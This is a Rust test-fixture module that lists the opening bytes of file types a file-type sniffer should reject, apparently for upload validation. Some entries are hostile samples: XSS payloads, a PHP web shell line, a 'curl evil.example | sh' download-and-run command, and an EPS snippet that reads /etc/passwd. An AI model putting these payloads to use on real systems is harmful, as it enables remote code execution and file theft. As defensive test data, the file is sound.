//! The beginnings of files that are none of the five kinds.

/// Names and bytes; most of them long enough that a sniffer is sure.
pub(super) fn foreign() -> Vec<(&'static str, Vec<u8>)> {
    let padded = |start: &[u8]| [start, &[0x20; 64]].concat();
    vec![
        ("nothing", Vec::new()),
        ("one byte", vec![b'%']),
        ("text", b"Dear doctor, the rash came back on Monday.\n".to_vec()),
        ("HTML", b"<!DOCTYPE html><html><script>alert(document.domain)</script></html>".to_vec()),
        ("HTML behind a byte order mark", b"\xef\xbb\xbf<html><body onload=alert(1)>".to_vec()),
        ("SVG", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec()),
        ("SVG behind a declaration", b"<?xml version=\"1.0\"?><svg><script>alert(1)</script></svg>".to_vec()),
        ("JavaScript", b"fetch('/api/auth/me').then(r => r.text()).then(alert)".to_vec()),
        ("PHP", b"<?php system($_GET['c']); ?>".to_vec()),
        ("shell script", b"#!/bin/sh\ncurl evil.example | sh\n".to_vec()),
        ("MZ", padded(b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0")),
        ("ELF", padded(b"\x7fELF\x02\x01\x01\0")),
        ("Java class", padded(b"\xca\xfe\xba\xbe\0\0\0\x34")),
        ("WebAssembly", padded(b"\0asm\x01\0\0\0")),
        ("TIFF, little endian", padded(b"II\x2a\0\x08\0\0\0")),
        ("TIFF, big endian", padded(b"MM\0\x2a\0\0\0\x08")),
        ("HEIC", padded(b"\0\0\0\x18ftypheic\0\0\0\0mif1heic")),
        ("AVIF", padded(b"\0\0\0\x1cftypavif\0\0\0\0mif1avif")),
        ("WebP", padded(b"RIFF\x24\0\0\0WEBPVP8 ")),
        ("EPS", padded(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n(/etc/passwd) (r) file\n")),
        ("BMP", padded(b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0")),
        ("icon", padded(b"\0\0\x01\0\x01\0\x10\x10")),
        ("Photoshop", padded(b"8BPS\0\x01\0\0\0\0\0\0")),
        ("JPEG 2000", padded(b"\0\0\0\x0cjP  \r\n\x87\n")),
        ("JPEG XL", padded(b"\xff\x0a\xfa\x7f\x01")),
        ("RAR", padded(b"Rar!\x1a\x07\x01\0")),
        ("7z", padded(b"7z\xbc\xaf\x27\x1c\0\x04")),
        ("gzip", padded(b"\x1f\x8b\x08\0\0\0\0\0")),
        ("Word 97", padded(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")),
        ("RTF", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}".to_vec()),
        ("Flash", padded(b"CWS\x0a\0\0\0\0")),
        ("MP4", padded(b"\0\0\0\x20ftypisom\0\0\x02\0")),
        ("MNG", padded(b"\x8aMNG\r\n\x1a\n")),
    ]
}
